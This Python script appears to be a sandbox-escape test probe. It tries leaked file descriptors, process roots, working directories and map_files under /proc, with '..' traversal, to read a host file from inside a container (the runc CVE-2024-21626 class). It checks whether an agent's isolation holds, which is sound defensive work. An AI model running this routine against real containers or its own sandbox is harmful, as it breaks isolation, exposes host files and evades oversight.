"""A descriptor or a working directory that was left open by whoever started the
program leads to the host's files: fd N of it or of another process, its
cwd, its root (CVE-2024-21626).

Blocked by close_range before the agent is executed, by the pid namespace, and
by an agent that is not dumpable. The old root is unmounted.
"""
import os
import sys

WANTS = None
BARE = "root"
NEEDS = ("host_file",)

given = dict(word.split("=", 1) for word in sys.argv[1:])


def roads():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        yield from (f"/proc/{pid}/root", f"/proc/{pid}/cwd")
        for thing in ("fd", "map_files"):
            try:
                for one in os.listdir(f"/proc/{pid}/{thing}"):
                    yield f"/proc/{pid}/{thing}/{one}"
            except OSError:
                pass
    yield from (f"/proc/self/fd/{n}" for n in range(1024))
    yield from ("/proc/self/cwd", ".")


path, tried = given["host_file"], 0
for road in roads():
    for up in ("", "/.." * 16):
        tried += 1
        try:
            with open(f"{road}{up}{path}") as f:
                print("ESCAPED: by", road, f.read())
                sys.exit()
        except OSError:
            pass
print("refused:", tried, "roads lead nowhere")
